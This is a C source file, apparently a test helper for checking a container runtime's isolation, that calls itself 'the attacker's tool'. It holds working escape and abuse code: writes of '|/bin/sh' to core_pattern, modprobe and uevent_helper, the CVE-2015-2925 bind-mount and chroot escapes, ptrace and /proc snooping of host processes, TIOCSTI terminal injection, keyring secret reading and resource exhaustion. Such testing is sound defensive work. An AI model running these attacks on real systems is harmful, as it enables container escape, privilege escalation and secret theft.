/* The attacker's tool: root inside a container runs it. `attack calls` tries every system call below once and says for each
 * `name=errno`, or `name=OK` for what worked; the other words are attacks that take time. Built static, so that any container runs it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/if_packet.h>
#include <linux/perf_event.h>
#include <mqueue.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *name, long result)
{
	if (result >= 0)
		printf("%s=OK\n", name);
	else
		printf("%s=%s\n", name, strerrorname_np(errno));
	fflush(stdout);
}
#define TRY(name, call) say(name, (long)(call))

static long write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	long n = write(fd, text, strlen(text));
	int saved = errno;
	close(fd);
	errno = saved;
	return n;
}

static long node(mode_t kind, int major, int minor, int flags)
{
	unlink("/node");
	if (mknod("/node", kind | 0600, makedev(major, minor)) < 0)
		return -1;
	int fd = open("/node", flags);
	int saved = errno;
	unlink("/node");
	errno = saved;
	return fd;
}

static long by_handle(unsigned ino)
{
	struct { struct file_handle h; unsigned char bytes[128]; } f = { .h = { .handle_bytes = 8, .handle_type = 1 } };
	memcpy(f.h.f_handle, &ino, sizeof ino);
	int root = open("/", O_RDONLY);
	return open_by_handle_at(root, &f.h, O_RDONLY);
}

static void calls(void)
{
	char nothing[4096] = "";
	struct timeval now;
	struct timespec then = { 0 };
	gettimeofday(&now, NULL);

	TRY("open_by_handle_at", by_handle(2));
	TRY("init_module", syscall(SYS_init_module, nothing, 64, ""));
	TRY("finit_module", syscall(SYS_finit_module, 0, "", 0));
	TRY("delete_module", syscall(SYS_delete_module, "nothing", 0));
	TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	TRY("swapon", syscall(SYS_swapon, "/nothing", 0));
	TRY("acct", syscall(SYS_acct, NULL));
	TRY("iopl", iopl(3));
	TRY("ioperm", ioperm(0x80, 1, 1));
	TRY("settimeofday", settimeofday(&now, NULL));
	TRY("clock_settime", clock_settime(CLOCK_REALTIME, &then));
	struct timex tx = { .modes = ADJ_TICK, .tick = 10000 };
	TRY("adjtimex", adjtimex(&tx));
	char attr[128] = { 1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1, 0, 0, 0 };
	TRY("bpf", syscall(SYS_bpf, 0, attr, sizeof attr));
	struct perf_event_attr perf = { .type = PERF_TYPE_SOFTWARE, .size = sizeof perf, .config = PERF_COUNT_SW_CPU_CLOCK };
	TRY("perf_event_open", syscall(SYS_perf_event_open, &perf, -1, 0, -1, 0));
	TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
	char ring[256] = "";
	TRY("io_uring_setup", syscall(SYS_io_uring_setup, 1, ring));
	TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
	TRY("add_key", syscall(SYS_add_key, "user", "k", "v", 1, -3));
	TRY("syslog", syscall(SYS_syslog, 3, nothing, sizeof nothing));
	TRY("quotactl", syscall(SYS_quotactl, 0x80000100, NULL, 0, NULL));
	TRY("modify_ldt", syscall(SYS_modify_ldt, 0, nothing, 16));
	TRY("lookup_dcookie", syscall(212, 0, nothing, 16));

	TRY("vsock", socket(40, SOCK_STREAM, 0));
	TRY("vsock by the upper half", syscall(SYS_socket, 40 | 1UL << 32, SOCK_STREAM, 0));
	TRY("vsock by x32", syscall(0x40000000 | SYS_socket, 40, SOCK_STREAM, 0));
	TRY("af_alg", socket(38, SOCK_SEQPACKET, 0));
	TRY("bluetooth", socket(31, SOCK_RAW, 0));
	TRY("tipc", socket(30, SOCK_SEQPACKET, 0));

	TRY("mem", node(S_IFCHR, 1, 1, O_RDONLY));
	TRY("kmsg", node(S_IFCHR, 1, 11, O_RDONLY));
	TRY("disk", node(S_IFBLK, 254, 0, O_RDONLY));
	TRY("sda", node(S_IFBLK, 8, 0, O_RDONLY));
	TRY("loop-control", node(S_IFCHR, 10, 237, O_RDWR));
	TRY("kvm", node(S_IFCHR, 10, 232, O_RDWR));

	mkdir("/m", 0755);
	TRY("mount ext4", mount("/dev/vda", "/m", "ext4", 0, NULL));
	TRY("mount debugfs", mount("none", "/m", "debugfs", 0, NULL));
	TRY("mount tracefs", mount("none", "/m", "tracefs", 0, NULL));
	TRY("mount securityfs", mount("none", "/m", "securityfs", 0, NULL));
	TRY("mount devtmpfs", mount("none", "/m", "devtmpfs", 0, NULL));
	TRY("mount pstore", mount("none", "/m", "pstore", 0, NULL));
	TRY("mount cgroup v1", mount("none", "/m", "cgroup", 0, "memory"));
	TRY("mount binfmt_misc on the host's", write_to("/proc/sys/fs/binfmt_misc/register", ":x:M::xx::/bin/sh:"));

	TRY("core_pattern", write_to("/proc/sys/kernel/core_pattern", "|/bin/sh"));
	TRY("modprobe", write_to("/proc/sys/kernel/modprobe", "/bin/sh"));
	TRY("hotplug", write_to("/sys/kernel/uevent_helper", "/bin/sh"));
	TRY("sysrq-trigger", write_to("/proc/sysrq-trigger", "h"));
	TRY("sysrq", write_to("/proc/sys/kernel/sysrq", "1"));
	TRY("kptr_restrict", write_to("/proc/sys/kernel/kptr_restrict", "0"));
	TRY("pid_max", write_to("/proc/sys/kernel/pid_max", "400"));
	TRY("drop_caches", write_to("/proc/sys/vm/drop_caches", "1"));
	TRY("overcommit", write_to("/proc/sys/vm/overcommit_memory", "1"));
	TRY("file-max", write_to("/proc/sys/fs/file-max", "100000"));
	TRY("suid_dumpable", write_to("/proc/sys/fs/suid_dumpable", "1"));
	TRY("mtrr", open("/proc/mtrr", O_WRONLY));
	TRY("kcore", open("/proc/kcore", O_RDONLY) >= 0 && read(open("/proc/kcore", O_RDONLY), nothing, 16) > 0 ? 0 : (errno = EACCES, -1));
	TRY("power", write_to("/sys/power/state", "mem"));
	TRY("own oom_score_adj below the host's", write_to("/proc/self/oom_score_adj", "-1000"));

	TRY("memory.max", write_to("/sys/fs/cgroup/memory.max", "max"));
	TRY("pids.max", write_to("/sys/fs/cgroup/pids.max", "max"));
	TRY("cpu.max", write_to("/sys/fs/cgroup/cpu.max", "max"));
	TRY("cgroup.max.descendants", write_to("/sys/fs/cgroup/cgroup.max.descendants", "max"));
	TRY("cgroup.freeze", write_to("/sys/fs/cgroup/cgroup.freeze", "0"));
	TRY("parent's cgroup.procs", write_to("/sys/fs/cgroup/../cgroup.procs", "0"));

	struct sched_param fifo = { .sched_priority = 1 };
	TRY("SCHED_FIFO", sched_setscheduler(0, SCHED_FIFO, &fifo));
	TRY("nice", setpriority(PRIO_PROCESS, 0, -20));
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_max += 1;
	TRY("raise nofile", setrlimit(RLIMIT_NOFILE, &rl));

	int root = open("/", O_RDONLY), one = 1;
	TRY("FIFREEZE", ioctl(root, FIFREEZE, 0));
	uint32_t shutdown = 1;
	TRY("FS_IOC_SHUTDOWN", ioctl(root, 0x8004587d, &shutdown));
	struct fstrim_range trim = { .len = UINT64_MAX };
	TRY("FITRIM", ioctl(root, FITRIM, &trim));
	int file = open("/immutable", O_CREAT | O_RDWR, 0600);
	int flags = FS_IMMUTABLE_FL;
	TRY("chattr +i", ioctl(file, FS_IOC_SETFLAGS, &flags));
	struct fsxattr project = { .fsx_projid = 4242 };
	TRY("another project id", ioctl(file, FS_IOC_FSSETXATTR, &project));
	(void)one;
	unlink("/immutable");
}

/* The way out of CVE-2015-2925: a bind mount's subdirectory moved from under it; and the classic second chroot. */
static int climb(void)
{
	mkdir("/a", 0755), mkdir("/a/b", 0755), mkdir("/c", 0755), mkdir("/d", 0755);
	if (mount("/a", "/c", NULL, MS_BIND, NULL) == 0 && chdir("/c/b") == 0) {
		rename("/a/b", "/d/b");
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		struct stat st;
		printf("bind: %s\n", stat("canary-of-the-host", &st) == 0 ? "OUT" : "in");
	}
	int up = open("/", O_RDONLY);
	mkdir("/jail", 0755);
	if (chroot("/jail") == 0 && fchdir(up) == 0) {
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		printf("chroot: %s\n", access("canary-of-the-host", F_OK) == 0 ? "OUT" : "in");
	}
	return 0;
}

/* Looks at every process that comes by, for as long as /stop is not there: does one show something of the host's? */
static int watch(const char *host_mark)
{
	long looked = 0;
	puts("watching");
	fflush(stdout);
	while (access("/stop", F_OK) != 0) {
		DIR *proc = opendir("/proc");
		for (struct dirent *d; (d = readdir(proc));) {
			int pid = atoi(d->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			looked++;
			char path[300], to[4096];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t n = readlink(path, to, sizeof to - 1);
			if (n > 0 && (to[n] = 0, strstr(to, "vzctl")))
				printf("exe: %s\n", to);
			snprintf(path, sizeof path, "/proc/%d/environ", pid);
			int fd = open(path, O_RDONLY);
			if (fd >= 0) {
				n = read(fd, to, sizeof to - 1);
				if (n > 0 && memmem(to, n, "VZ_CONFDIR", 10))
					printf("environ of %d\n", pid);
				close(fd);
			}
			snprintf(path, sizeof path, "/proc/%d/mountinfo", pid);
			fd = open(path, O_RDONLY);
			if (fd >= 0) {
				static char table[1 << 16];
				size_t have = 0;
				while (have < sizeof table && (n = read(fd, table + have, sizeof table - have)) > 0)
					have += n;
				if (*host_mark && memmem(table, have, host_mark, strlen(host_mark)))
					printf("mounts of the host by %d\n", pid);
				close(fd);
			}
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			DIR *fds = opendir(path);
			for (struct dirent *f; fds && (f = readdir(fds));) {
				snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, f->d_name);
				n = readlink(path, to, sizeof to - 1);
				if (n > 0 && (to[n] = 0, to[0] == '/') && strncmp(to, "/dev/", 5) && strncmp(to, "/memfd:", 7) &&
				    strncmp(to, "/proc", 5) && strcmp(to, "/watch.out"))
					printf("fd: %s\n", to);
			}
			if (fds)
				closedir(fds);
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				n = readlink(path, to, sizeof to - 1);
				if (n > 0 && (to[n] = 0, strstr(to, "vzctl")))
					printf("traced: %s\n", to);
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, NULL, __WALL);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_WRONLY);
			if (fd >= 0 && (n = readlink(path, to, sizeof to - 1)) > 0 && (to[n] = 0, strstr(to, "vzctl")))
				printf("writable: %s\n", to);
			if (fd >= 0)
				close(fd);
		}
		closedir(proc);
		fflush(stdout);
	}
	printf("done: %s\n", looked > 0 ? "looked" : "saw nobody");
	return 0;
}

/* Types into whatever terminal it was given. */
static int type(void)
{
	const char *command = "touch /root/PWNED\n";
	int tty = open("/dev/tty", O_RDWR);
	int tried[] = { 0, 1, 2, tty };
	for (int i = 0; i < 4; i++)
		for (const char *c = command; *c; c++)
			if (ioctl(tried[i], TIOCSTI, c) < 0) {
				printf("TIOCSTI %d: %s\n", i, strerrorname_np(errno));
				break;
			}
	return 0;
}

/* Every family of sockets there is a number for, by every kind: those that can be opened, and refusals that tell of one that is there. */
static void families(void)
{
	int kinds[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET };
	for (int family = 1; family < 64; family++) {
		int opened = 0, refused = 0;
		for (int kind = 0; kind < 4; kind++) {
			int fd = socket(family, kinds[kind], 0);
			if (fd >= 0)
				opened = 1, close(fd);
			else if (errno != EAFNOSUPPORT)
				refused = errno;
		}
		if (opened || refused)
			printf("%d=%s\n", family, opened ? "OK" : strerrorname_np(refused));
	}
}

enum { SESSION_KEYRING = -3, JOIN_SESSION_KEYRING = 1, SEARCH = 10, READ = 11 };

/* On the host: a session with a key in it, as a login has, and a command run in it. */
static int with_key(char **command)
{
	if (syscall(SYS_keyctl, JOIN_SESSION_KEYRING, "of_a_login") < 0 ||
	    syscall(SYS_add_key, "user", "vz-test", "precious", 8, SESSION_KEYRING) < 0)
		return 77;
	execvp(command[0], command);
	return 1;
}

/* Inside: that key. */
static int key(void)
{
	char secret[64] = "";
	long found = syscall(SYS_keyctl, SEARCH, SESSION_KEYRING, "user", "vz-test", 0);
	if (found < 0) {
		printf("no key: %s\n", strerrorname_np(errno));
		return 0;
	}
	syscall(SYS_keyctl, READ, found, secret, sizeof secret - 1);
	printf("key: %s\n", secret);
	return 0;
}

/* Changes two names for each other, as fast as it goes, until it is killed: a directory and a link. */
static int exchange(const char *a, const char *b)
{
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT && errno != EBUSY)
			return perror("renameat2"), 1;
}

/* Takes all there is of one thing and holds it until it is killed. With `hold` 0 only sees whether it gets 20 (12 ptys). */
static int take(const char *what, int hold)
{
	/* A container of the sample configuration has 16 ptys, its console among them. */
	long got = 0, wanted = hold ? 200000 : strcmp(what, "ptys") ? 20 : 12;
	struct rlimit all = { 0 };
	getrlimit(RLIMIT_NOFILE, &all);
	all.rlim_cur = all.rlim_max;
	setrlimit(RLIMIT_NOFILE, &all);
	for (; got < wanted; got++) {
		long r = -1;
		if (!strcmp(what, "inotify"))
			r = inotify_init();
		else if (!strcmp(what, "timers")) {
			timer_t id;
			struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1 };
			r = timer_create(CLOCK_MONOTONIC, &event, &id);
		} else if (!strcmp(what, "mqueues")) {
			char name[32];
			snprintf(name, sizeof name, "/q%d-%ld", getpid(), got);
			struct mq_attr attr = { .mq_maxmsg = 10, .mq_msgsize = 1024 };
			r = mq_open(name, O_CREAT | O_RDWR, 0600, &attr);
			if (!hold)
				mq_unlink(name);
		} else if (!strcmp(what, "ptys")) {
			int slave;
			int master;
			r = openpty(&master, &slave, NULL, NULL, NULL) < 0 ? -1 : 0;
		} else if (!strcmp(what, "pids")) {
			pid_t pid = fork();
			if (pid == 0) {
				pause();
				_exit(0);
			}
			r = pid;
			if (!hold && pid > 0) {
				kill(pid, SIGKILL);
				waitpid(pid, NULL, 0);
			}
		} else if (!strcmp(what, "cgroups")) {
			char name[64];
			snprintf(name, sizeof name, "/sys/fs/cgroup/%s/c%ld", hold ? "" : getenv("PARENT"), got);
			r = mkdir(name, 0755);
			if (!hold && r == 0)
				rmdir(name);
		}
		if (r < 0)
			break;
	}
	printf("%s: %ld %s\n", what, got, got >= wanted ? "enough" : strerrorname_np(errno));
	fflush(stdout);
	while (hold)
		pause();
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "calls"))
		calls();
	else if (!strcmp(what, "climb"))
		return climb();
	else if (!strcmp(what, "watch"))
		return watch(argc > 2 ? argv[2] : "");
	else if (!strcmp(what, "families"))
		families();
	else if (!strcmp(what, "with-key"))
		return with_key(argv + 2);
	else if (!strcmp(what, "key"))
		return key();
	else if (!strcmp(what, "exchange"))
		return exchange(argv[2], argv[3]);
	else if (!strcmp(what, "type"))
		return type();
	else if (!strcmp(what, "take"))
		return take(argv[2], 1);
	else if (!strcmp(what, "need"))
		return take(argv[2], 0);
	else
		return 2;
	return 0;
}
